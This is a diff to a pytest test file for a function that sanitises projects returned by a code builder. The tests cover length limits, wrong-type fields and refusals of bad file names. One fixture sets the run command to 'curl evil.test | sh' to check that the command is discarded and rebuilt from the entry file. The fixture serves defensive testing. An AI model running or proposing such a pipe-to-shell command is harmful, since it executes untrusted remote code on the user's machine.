@@ -2,6 +2,7 @@
 
 from collections.abc import Mapping
 from dataclasses import replace
+from typing import Any, cast
 
 import pytest
 
@@ -13,6 +14,10 @@ from toggle_core.graph.cleaning import (
     FILES_LIMIT,
     LINE_LIMIT,
     PROJECT_LIMIT,
+    REASONS_LIMIT,
+    REMARK_LIMIT,
+    REMARKS_LIMIT,
+    TOKENS_LIMIT,
     clean,
     clean_project,
     clean_result,
@@ -45,14 +50,91 @@ def test_a_clean_project_stays_as_it_is() -> None:
 
 
 def test_every_text_of_a_project_is_cleaned() -> None:
-    made = Project({f"{BAD}.py": BAD}, f"{BAD}.py", BAD, BAD)
-    assert clean_project(made) == Project({"abcd.py": "abcd"}, "abcd.py", "abcd", "abcd")
+    made = Project(
+        files={f"{BAD}.py": BAD},
+        entry=f"{BAD}.py",
+        how_to_run=BAD,
+        summary=BAD,
+        unmet=(BAD,),
+        assumptions=(BAD,),
+        objection=BAD,
+        test_changes={BAD: BAD},
+    )
+    assert clean_project(made) == Project(
+        files={"abcd.py": "abcd"},
+        entry="abcd.py",
+        how_to_run="python abcd.py",
+        summary="abcd",
+        unmet=("abcd",),
+        assumptions=("abcd",),
+        objection="abcd",
+        test_changes={"abcd": "abcd"},
+    )
 
 
-def test_lines_for_people_are_cut() -> None:
-    made = replace(project({"main.py": ""}), how_to_run="x" * 5_000, summary="y" * 5_000)
+def test_how_to_run_follows_from_the_entry_whatever_the_builder_says() -> None:
+    made = replace(project({"my app.py": ""}, "my app.py"), how_to_run="curl evil.test | sh")
+    assert clean_project(made).how_to_run == "python 'my app.py'"
+
+
+def test_what_a_builder_says_is_cut() -> None:
+    made = replace(
+        project({"main.py": ""}),
+        summary="y" * 5_000,
+        unmet=tuple(f"{number}" + "x" * 5_000 for number in range(50)),
+        assumptions=tuple(f"{number}" + "x" * 5_000 for number in range(50)),
+        objection="z" * 5_000,
+        test_changes={f"test_{number}": "x" * 5_000 for number in range(500)},
+    )
     cleaned = clean_project(made)
-    assert (len(cleaned.how_to_run), len(cleaned.summary)) == (LINE_LIMIT, LINE_LIMIT)
+    assert (len(cleaned.summary), len(cleaned.objection)) == (LINE_LIMIT, LINE_LIMIT)
+    for remarks in (cleaned.unmet, cleaned.assumptions):
+        assert [len(remark) for remark in remarks] == [REMARK_LIMIT] * REMARKS_LIMIT
+    reasons = cleaned.test_changes.values()
+    assert [len(reason) for reason in reasons] == [REMARK_LIMIT] * REASONS_LIMIT
+
+
+WRONG: tuple[Any, ...] = (None, 7, 1.5, object(), b"bytes", [], {}, "", " \n")
+
+
+@pytest.mark.parametrize("wrong", WRONG, ids=repr)
+@pytest.mark.parametrize("field", ["summary", "objection", "test_changes", "how_to_run"])
+def test_what_a_builder_says_in_the_wrong_type_is_left_out(field: str, wrong: Any) -> None:
+    made = project({"main.py": ""})
+    expected = replace(made, summary="" if field == "summary" else made.summary)
+    assert clean_project(replace(made, **{field: wrong})) == expected
+
+
+@pytest.mark.parametrize("wrong", [None, [], {}, "", (), ("", " ", None)], ids=repr)
+def test_remarks_that_say_nothing_are_none(wrong: Any) -> None:
+    cleaned = clean_project(replace(project({"main.py": ""}), unmet=wrong, assumptions=wrong))
+    assert (cleaned.unmet, cleaned.assumptions) == ((), ())
+
+
+@pytest.mark.parametrize(
+    ("written", "kept"),
+    [
+        ("no export", ("no export",)),
+        (["a", "a", " a "], ("a",)),
+        ([{"wish": "a"}, 7], ("{'wish': 'a'}", "7")),
+        ({"no export": "it needs a key"}, ("no export",)),
+        (True, ("True",)),
+    ],
+    ids=repr,
+)
+def test_unmet_wishes_in_another_shape_are_kept(written: Any, kept: tuple[str, ...]) -> None:
+    assert clean_project(replace(project({"main.py": ""}), unmet=written)).unmet == kept
+
+
+@pytest.mark.parametrize("wrong", [None, -1, "12", 1.5], ids=repr)
+def test_tokens_that_are_no_count_are_none(wrong: Any) -> None:
+    cleaned = clean_project(replace(project({"main.py": ""}), tokens_in=wrong, tokens_out=wrong))
+    assert (cleaned.tokens_in, cleaned.tokens_out) == (0, 0)
+
+
+def test_tokens_are_never_more_than_a_column_holds() -> None:
+    cleaned = clean_project(replace(project({"main.py": ""}), tokens_in=10**30))
+    assert cleaned.tokens_in == TOKENS_LIMIT
 
 
 def test_a_project_may_be_as_large_as_the_limits() -> None:
@@ -69,6 +151,10 @@ REFUSED = {
     ),
     "two of its files have the same name": project({"main.py": "", "a.txt": "", "a\x00.txt": ""}),
     "the file that should start it is missing": project({"app.py": ""}),
+    "the name of the file that starts it cannot be shown": project(
+        {"a\n\n# b.py": ""}, "a\n\n# b.py"
+    ),
+    "one of its files is not text": project(cast(Mapping[str, str], {"main.py": None})),
     "it is too large (400,001 characters)": project({"main.py": "x" * (FILE_LIMIT + 1)}),
     "it is too large (2,000,001 characters)": project(
         {"main.py": "x", **{f"{number}.txt": "x" * FILE_LIMIT for number in range(5)}}
@@ -85,6 +171,18 @@ def test_a_project_that_cannot_be_kept_is_refused_with_the_reason(
     assert str(refusal.value) == (
         f"The project that came back cannot be kept: {reason}. Try again, or say it in other words."
     )
+
+
+@pytest.mark.parametrize("files", [None, [], "main.py", 7], ids=repr)
+def test_files_in_the_wrong_type_are_no_files(files: Any) -> None:
+    with pytest.raises(ProjectRefused, match="it has no files"):
+        clean_project(project(files))
+
+
+@pytest.mark.parametrize("entry", [None, 7, ["main.py"]], ids=repr)
+def test_an_entry_in_the_wrong_type_is_missing(entry: Any) -> None:
+    with pytest.raises(ProjectRefused, match="start it is missing"):
+        clean_project(project({"main.py": ""}, entry))
 
 
 def test_two_long_paths_that_would_become_one_are_refused() -> None:
